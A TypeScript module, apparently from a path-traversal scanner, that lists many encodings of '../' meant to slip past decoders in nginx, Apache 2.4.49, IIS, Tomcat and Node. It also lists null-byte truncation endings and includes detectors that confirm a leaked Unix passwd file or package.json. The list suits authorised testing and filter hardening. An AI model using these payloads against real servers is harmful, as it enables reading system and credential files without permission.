/** A way to write one step up that some decoder reads as `../`. */
export type Climb = { readonly name: string; readonly step: string }

/** Ways to write `../`. Sources: CWE-22 to CWE-38; how nginx, Apache 2.4.49, IIS, Tomcat, Node's `send` and `path` decode. */
export const CLIMBS: readonly Climb[] = [
  { name: 'plain', step: '../' },
  { name: 'encoded dots', step: '%2e%2e/' },
  { name: 'encoded dots, capitals', step: '%2E%2E/' },
  { name: 'one encoded dot', step: '.%2e/' },
  { name: 'the other encoded dot', step: '%2e./' },
  { name: 'encoded slash', step: '..%2f' },
  { name: 'encoded slash, capitals', step: '..%2F' },
  { name: 'all encoded', step: '%2e%2e%2f' },
  { name: 'encoded twice', step: '%252e%252e%252f' },
  { name: 'slash encoded twice', step: '..%252f' },
  { name: 'encoded three times', step: '%25252e%25252e%25252f' },
  { name: 'backslash', step: '..\\' },
  { name: 'encoded backslash', step: '..%5c' },
  { name: 'all encoded, backslash', step: '%2e%2e%5c' },
  { name: 'backslash encoded twice', step: '..%255c' },
  { name: 'overlong slash', step: '..%c0%af' },
  { name: 'overlong dots', step: '%c0%ae%c0%ae/' },
  { name: 'overlong slash of three bytes', step: '..%e0%80%af' },
  { name: 'overlong backslash', step: '..%c1%9c' },
  { name: 'filter that runs once', step: '....//' },
  { name: 'filter that runs once, backslash', step: '....\\/' },
  { name: 'filter in between', step: '..././' },
  { name: 'parameter in the path', step: '..;/' },
  { name: 'full-width slash', step: '..%ef%bc%8f' },
  { name: 'full-width dots', step: '%ef%bc%8e%ef%bc%8e/' },
  { name: 'percent-u', step: '%u002e%u002e%u2215' },
  { name: 'two slashes', step: '..//' },
  { name: 'slash of two kinds', step: '..\\/' },
]

/** Endings that cut off what a program puts behind the name. */
export const TAILS: readonly string[] = ['', '%00', '%00.css', '?.css', '%23.css']

/** Lines of an account file of Unix: known by the shape of its first account. */
export const isPasswd = (text: string): boolean => /(?:^|\n)root:[^:\n]{0,200}:0:0:/.test(text.slice(0, 20_000))

/** The package.json of a program: an object with a name or scripts, and packages. */
export const isPackageJson = (text: string): boolean => {
  const begin = text.trimStart()
  return begin.startsWith('{') && /"(?:name|scripts)"\s*:/.test(begin) && /"(?:dependencies|devDependencies|scripts|type)"\s*:/.test(begin)
}
